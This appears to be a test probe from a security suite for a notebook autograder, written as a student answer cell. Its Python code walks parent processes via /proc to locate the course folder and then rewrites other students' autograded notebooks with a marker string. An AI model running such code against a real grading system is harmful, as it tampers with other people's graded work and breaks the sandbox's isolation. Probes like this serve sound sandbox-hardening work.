# Tries: Other students' notebooks under autograded/ are rewritten: feedback is made from them.
# Trace: OWNED-other_autograded_changed in a notebook of autograded/ that is not the attacker's
# Wins against: none
# %% cell: q1_minimum
import os
import pathlib


def above():
    """Return the ids of the processes above this one, nearest first."""
    pid, found = os.getpid(), []
    while pid > 1:
        found.append(pid)
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return found


def course():
    """Return the class folder: where a process above this one works. Only one with a canary."""
    for pid in above():
        here = pathlib.Path(os.readlink(f"/proc/{pid}/cwd"))
        for folder in (here, *here.parents):
            if (folder / "canary.txt").exists() and (folder / "source").is_dir():
                return folder
    raise FileNotFoundError


for path in (course() / "autograded").glob("*/*/*.ipynb"):
    path.chmod(0o644)
    path.write_text(path.read_text().replace("Adam", "OWNED-other_autograded_changed"))
